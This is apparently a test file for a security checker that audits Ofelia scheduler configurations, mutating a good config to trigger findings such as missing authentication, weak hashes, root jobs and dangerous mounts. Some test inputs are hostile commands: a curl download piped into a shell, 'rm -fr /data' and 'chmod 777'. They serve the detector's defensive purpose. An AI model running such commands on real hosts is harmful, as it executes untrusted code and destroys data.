import { expect, test } from 'bun:test'
import { briefly, hostWith } from './host.ts'

const DIGEST = `sha256:${'ab'.repeat(32)}`
const BCRYPT = `$2a$12$${'a'.repeat(53)}`
const CHEAP = `$2a$10$${'a'.repeat(53)}`

const GOOD = `; Ofelia
[global]
enable-web = true
web-address = 127.0.0.1:8081
web-auth-enabled = true
web-username = ops
web-password-hash = \${OFELIA_PW_HASH}
web-secret-key = \${WEB_SECRET_KEY}
allow-host-jobs-from-labels = false
webhook-allowed-hosts = hooks.slack.com, ntfy.example.org
webhook-webhooks = ops-ntfy
notification-cooldown = 30m
save-folder = /var/log/ofelia
smtp-tls-policy = mandatory

[docker]
events = true

[webhook "ops-ntfy"]
preset = ntfy-token
url = https://ntfy.example.org/host-alerts
secret = \${NTFY_TOKEN}
trigger = error

[job-exec "db-backup"]
schedule = 0 2 * * *
container = postgres
command = /scripts/backup.sh
user = postgres
no-overlap = true

[job-run "prune"]
schedule = @weekly
image = alpine@${DIGEST}
command = /bin/true
max-runtime = 30m
delete = true
`
const UNIT = `[Service]
EnvironmentFile=/etc/ofelia/env
ExecStart=/usr/local/bin/ofelia daemon --config=/etc/ofelia/config.ini
`
const ENV = `OFELIA_PW_HASH='${BCRYPT}'
WEB_SECRET_KEY=${'k'.repeat(64)}
NTFY_TOKEN=tk_0123456789
`
const FILES = {
  '/etc/ofelia/config.ini': GOOD,
  '/etc/ofelia/env': ENV,
  '/etc/systemd/system/ofelia.service': UNIT,
}
const look = (more: Record<string, string | Uint8Array>, settings = {}) =>
  hostWith({ ...FILES, ...more }, { service: 'ofelia', ...settings })

test('check finds nothing in a good Ofelia, and tells its jobs', async () => {
  using host = look({})
  const { findings, blind, facts } = await host.check()
  expect({ findings, blind }).toEqual({ findings: [], blind: [] })
  expect(facts?.map(({ subject, data }) => [subject, data.line, data.comes])).toEqual([
    ['job-exec db-backup', 25, 'at'],
    ['job-run prune', 32, 'at'],
  ])
})

/** In the good one a text is replaced by another, and this is found. */
const changes: [name: string, from: string, to: string, found: string[]][] = [
  ['no web interface', 'enable-web = true', 'enable-web = false', []],
  [
    'no login',
    'web-auth-enabled = true',
    'web-auth-enabled = false',
    ['no-authentication 5 global.web-auth-enabled'],
  ],
  ['nothing about a login', 'web-auth-enabled = true\n', '', ['no-authentication 2 global.web-auth-enabled']],
  ['all addresses', '127.0.0.1:8081', ':8081', ['wide-bind 4 global.web-address']],
  ['the default address', 'web-address = 127.0.0.1:8081\n', '', ['wide-bind 2 global.web-address']],
  ['no name', 'web-username = ops\n', '', ['would-not-start 2 global.web-username']],
  [
    'the usual name',
    'web-username = ops',
    'web-username = admin',
    ['default-username 6 global.web-username'],
  ],
  [
    'no hash',
    `web-password-hash = \${OFELIA_PW_HASH}\n`,
    '',
    ['would-not-start 2 global.web-password-hash', 'ineffective-variable 1 OFELIA_PW_HASH'],
  ],
  [
    'a hash in the file',
    `web-password-hash = \${OFELIA_PW_HASH}`,
    `web-password-hash = ${BCRYPT}`,
    ['ineffective-variable 1 OFELIA_PW_HASH', 'secret-in-configuration 7 global.web-password-hash'],
  ],
  [
    'a cheap hash in the file',
    `web-password-hash = \${OFELIA_PW_HASH}`,
    `web_password_hash = ${CHEAP}`,
    [
      'ineffective-variable 1 OFELIA_PW_HASH',
      'secret-in-configuration 7 global.web-password-hash',
      'weak-password-hash 7 global.web-password-hash',
    ],
  ],
  [
    'a variable that nothing sets',
    `\${WEB_SECRET_KEY}`,
    `\${WEB_SECRET}`,
    ['undefined-variable 8 global.web-secret-key'],
  ],
  [
    'a variable with a default',
    `\${NTFY_TOKEN}`,
    `\${NTFY:-tk_literal}`,
    ['secret-in-configuration 22 webhook.ops-ntfy.secret'],
  ],
  ['no key', `web-secret-key = \${WEB_SECRET_KEY}\n`, '', ['missing-secret 2 global.web-secret-key']],
  [
    'a short key',
    `web-secret-key = \${WEB_SECRET_KEY}`,
    'web-secret-key = short',
    ['secret-in-configuration 8 global.web-secret-key', 'weak-secret 8 global.web-secret-key'],
  ],
  [
    'a key of the documents',
    `web-secret-key = \${WEB_SECRET_KEY}`,
    'web-secret-key = changeme',
    ['placeholder-secret 8 global.web-secret-key', 'secret-in-configuration 8 global.web-secret-key'],
  ],
  ['long logins', '[docker]', 'web-token-expiry = 48\n[docker]', ['long-session 16 global.web-token-expiry']],
  [
    'logins without end',
    '[docker]',
    'web-token-expiry = 9000\n[docker]',
    ['long-session 16 global.web-token-expiry', 'wrong-value 16 global.web-token-expiry'],
  ],
  [
    'many attempts',
    '[docker]',
    'web-max-login-attempts = 50\n[docker]',
    ['many-login-attempts 16 global.web-max-login-attempts'],
  ],
  [
    'every proxy',
    '[docker]',
    'web-trusted-proxies = 0.0.0.0/0\n[docker]',
    ['trusted-proxies 16 global.web-trusted-proxies'],
  ],
  [
    'a profiler',
    '[docker]',
    'enable-pprof = true\npprof-address = :6060\n[docker]',
    ['open-profiler 17 global.pprof-address'],
  ],
  ['a profiler of this host', '[docker]', 'enable-pprof = true\n[docker]', []],
  [
    'jobs from labels',
    'from-labels = false',
    'from-labels = true',
    ['host-jobs-from-labels 9 global.allow-host-jobs-from-labels'],
  ],
  [
    'any host',
    'webhook-allowed-hosts = hooks.slack.com, ntfy.example.org',
    'webhook-allowed-hosts = *',
    ['any-webhook-host 10 global.webhook-allowed-hosts'],
  ],
  [
    'no hosts',
    'webhook-allowed-hosts = hooks.slack.com, ntfy.example.org\n',
    '',
    ['any-webhook-host 2 global.webhook-allowed-hosts'],
  ],
  [
    'another host',
    'ntfy.example.org\nwebhook-webhooks',
    '*.example.net\nwebhook-webhooks',
    ['blocked-webhook 21 webhook.ops-ntfy.url'],
  ],
  ['hosts by pattern', 'ntfy.example.org\nwebhook-webhooks', '*.example.org\nwebhook-webhooks', []],
  [
    'a webhook that there is not',
    'webhook-webhooks = ops-ntfy',
    'webhook-webhooks = ops-ntfy, slack',
    ['blocked-webhook 11 global.webhook-webhooks'],
  ],
  ['a webhook in clear', 'url = https:', 'url = http:', ['unencrypted-webhook 21 webhook.ops-ntfy.url']],
  [
    'a webhook to nowhere',
    'url = https://ntfy.example.org/host-alerts',
    'url = ntfy',
    ['unencrypted-webhook 21 webhook.ops-ntfy.url'],
  ],
  [
    'a trigger that there is not',
    'trigger = error',
    'trigger = failure',
    ['wrong-value 23 webhook.ops-ntfy.trigger'],
  ],
  [
    'a webhook whose address is the secret',
    'url = https://ntfy.example.org/host-alerts',
    'url = https://hooks.slack.com/services/T0/B0/x',
    ['secret-in-configuration 21 webhook.ops-ntfy.url'],
  ],
  [
    'templates from anywhere',
    '[docker]',
    'webhook-allow-remote-presets = true\n[docker]',
    ['remote-presets 16 global.webhook-allow-remote-presets'],
  ],
  [
    'templates from one place',
    '[docker]',
    'webhook-allow-remote-presets = true\nwebhook-trusted-preset-sources = gh:us/presets\n[docker]',
    [],
  ],
  [
    'mail in clear',
    'smtp-tls-policy = mandatory',
    'smtp-host = mail.example.org\nsmtp-tls-policy = none',
    ['unencrypted-mail 15 global.smtp-tls-policy'],
  ],
  ['mail to this host', 'smtp-tls-policy = mandatory', 'smtp-host = localhost\nsmtp-tls-policy = none', []],
  [
    'mail to whoever answers',
    'smtp-tls-policy = mandatory',
    'smtp-host = mail.example.org\nsmtp-tls-skip-verify = true',
    ['unencrypted-mail 15 global.smtp-tls-skip-verify'],
  ],
  [
    'a password of mail',
    'smtp-tls-policy = mandatory',
    'SMTPPassword = hunter2',
    ['secret-in-configuration 14 global.smtp-password'],
  ],
  [
    'output for everybody',
    'save-folder = ',
    'save-mode = 0644\nsave-folder = ',
    ['readable-output 13 global.save-mode'],
  ],
  ['output for a group', 'save-folder = ', 'save-mode = 0640\nsave-folder = ', []],
  ['no events', 'events = true', 'events = false', ['events-off 17 docker.events']],
  ['an old key', 'events = true', 'poll-interval = 10s', ['deprecated-key 17 docker.poll-interval']],
  ['a yes that Go refuses', 'enable-web = true', 'enable-web = yes', ['wrong-value 3 global.enable-web']],
  [
    'a time that is none',
    'notification-cooldown = 30m',
    'notification-cooldown = 30 minutes',
    ['wrong-value 12 global.notification-cooldown'],
  ],
  ['a key in the wrong section', 'events = true', 'enable-web = true', ['unknown-key 17 docker.enable-web']],
  [
    'a misspelt key',
    'no-overlap = true',
    'no-overlaps = true',
    ['overlap-allowed 25 job-exec.db-backup.no-overlap', 'unknown-key 30 job-exec.db-backup.no-overlaps'],
  ],
  [
    'overlap as the guide has it',
    'no-overlap = true',
    'overlap = false',
    ['ineffective-key 30 job-exec.db-backup.overlap', 'overlap-allowed 25 job-exec.db-backup.no-overlap'],
  ],
  ['keys in another spelling', 'no-overlap = true', 'NoOverlap: TRUE', []],
  [
    'limits as the guide has them',
    'delete = true',
    'memory = 512m\nmemory-swap = 1g\ncpu-shares = 512\ncapabilities-drop = NET_RAW,SYS_ADMIN\ntmpfs = /tmp:rw,noexec',
    [
      'ineffective-key 37 job-run.prune.memory',
      'ineffective-key 38 job-run.prune.memory-swap',
      'ineffective-key 39 job-run.prune.cpu-shares',
      'ineffective-key 40 job-run.prune.capabilities-drop',
      'ineffective-key 41 job-run.prune.tmpfs',
    ],
  ],
  [
    'an image that is always pulled',
    'delete = true',
    'pull = always',
    ['ineffective-key 37 job-run.prune.pull'],
  ],
  ['an image that is pulled', 'delete = true', 'pull = true', []],
  ['volumes', 'delete = true', 'volumes = /data:/data:ro', ['ineffective-key 37 job-run.prune.volumes']],
  [
    'a mount of the host',
    'delete = true',
    'volume = /etc:/etc',
    ['dangerous-mount 37 job-run.prune.volume /etc'],
  ],
  ['a mount for reading', 'delete = true', 'volume = /etc:/etc:ro', []],
  [
    'the socket, for reading',
    'delete = true',
    'volume = /var/run/docker.sock:/var/run/docker.sock:ro',
    ['dangerous-mount 37 job-run.prune.volume /var/run/docker.sock'],
  ],
  ['a job as root', 'user = postgres', 'user = root', ['root-job 29 job-exec.db-backup.user']],
  [
    'a job with privileges',
    'user = postgres',
    'privileged = true',
    ['root-job 29 job-exec.db-backup.privileged'],
  ],
  ['jobs as root', '[docker]', 'default-user = root\n[docker]', ['root-job 33 job-run.prune.user']],
  ['a tag', `alpine@${DIGEST}`, 'alpine:3.22', ['unpinned-image 34 job-run.prune.image']],
  [
    'no tag',
    `alpine@${DIGEST}`,
    'registry.example.org:5000/alpine',
    ['mutable-image 34 job-run.prune.image'],
  ],
  ['latest', `alpine@${DIGEST}`, 'alpine:latest', ['mutable-image 34 job-run.prune.image']],
  [
    'a digest that is none',
    `alpine@${DIGEST}`,
    'nginx@sha256:abc123...',
    ['wrong-value 34 job-run.prune.image'],
  ],
  ['no image', `image = alpine@${DIGEST}\n`, '', ['broken-job 32 job-run.prune.image']],
  ['30 February', '0 2 * * *', '0 2 30 2 *', ['never-runs 26 job-exec.db-backup.schedule']],
  ['4 fields', '0 2 * * *', '0 2 * *', ['never-runs 26 job-exec.db-backup.schedule']],
  ['seconds', '0 2 * * *', '0 0 2 * * *', []],
  ['a word that there is not', '@weekly', '@fortnightly', ['never-runs 33 job-run.prune.schedule']],
  ['every day and a half', '@weekly', '@every 36h', []],
  ['every fortnight', '@weekly', '@every 2w', ['never-runs 33 job-run.prune.schedule']],
  ['by hand', '@weekly', '@triggered', []],
  ['no schedule', 'schedule = @weekly\n', '', ['never-runs 32 job-run.prune.schedule']],
  [
    'a shell',
    '/scripts/backup.sh',
    `sh -c 'pg_dump x | gzip > /b'`,
    ['shell-command 28 job-exec.db-backup.command sh -c'],
  ],
  [
    'a pipe to nowhere',
    '/scripts/backup.sh',
    'pg_dump x > /b',
    ['shell-command 28 job-exec.db-backup.command >'],
  ],
  [
    'a download into a shell',
    '/bin/true',
    'sh -c "curl -s http://x | sh"',
    [
      'dangerous-command 35 job-run.prune.command curl',
      'dangerous-command 35 job-run.prune.command download into a shell',
      'shell-command 35 job-run.prune.command sh -c',
    ],
  ],
  ['a removal', '/bin/true', '/bin/rm -fr /data', ['dangerous-command 35 job-run.prune.command rm -rf']],
  [
    'modes for everybody',
    '/bin/true',
    'chmod 777 /data',
    ['dangerous-command 35 job-run.prune.command chmod 777'],
  ],
  [
    'a command that is cut',
    '/bin/true',
    `sh -c 'a; b'`,
    ['shell-command 35 job-run.prune.command sh -c', 'truncated-value 35 job-run.prune.command'],
  ],
  ['a channel that is cut', 'delete = true', 'hostname = #a', ['truncated-value 37 job-run.prune.hostname']],
  ['a comment', 'delete = true', 'delete = true  # remove it', []],
  [
    'a job that waits for nobody',
    'delete = true',
    'depends-on = db-restore',
    ['broken-job 37 job-run.prune.depends-on'],
  ],
  ['a job that waits for another', 'delete = true', 'depends-on = db-backup', []],
  [
    'a job that waits for itself',
    'delete = true',
    'depends-on = prune',
    ['broken-job 37 job-run.prune.depends-on'],
  ],
  [
    'two schedules',
    'schedule = @weekly',
    'schedule = @weekly\nschedule = @daily',
    ['duplicate-key 34 job-run.prune.schedule'],
  ],
  ['two mounts', 'delete = true', 'volume = a:/a\nvolume = b:/b', []],
  ['a section that there is not', '[docker]', '[Docker]', ['unknown-key 16 [Docker]']],
  [
    'a kind of job that there is not',
    '[job-run "prune"]',
    '[job-service "prune"]',
    ['unknown-key 32 [job-service "prune"]'],
  ],
  [
    'a command on the host',
    '[job-run "prune"]\nschedule = @weekly\nimage',
    '[job-local "prune"]\nschedule = @weekly\nuser = maintenance\nimage',
    [
      'ineffective-key 34 job-local.prune.user',
      'ineffective-key 37 job-local.prune.max-runtime',
      'local-job 32 job-local.prune',
      'unknown-key 35 job-local.prune.image',
      'unknown-key 38 job-local.prune.delete',
    ],
  ],
]
for (const [name, from, to, found] of changes) {
  test(`check finds ${found.join(', ') || 'nothing'} in Ofelia with ${name}`, async () => {
    expect(GOOD).toContain(from)
    using host = look({ '/etc/ofelia/config.ini': GOOD.replace(from, () => to) })
    const { findings, blind } = await host.check()
    expect({ findings: briefly(findings), blind }).toEqual({ findings: found.toSorted(), blind: [] })
    expect(JSON.stringify(findings)).not.toContain('hunter2')
  })
}
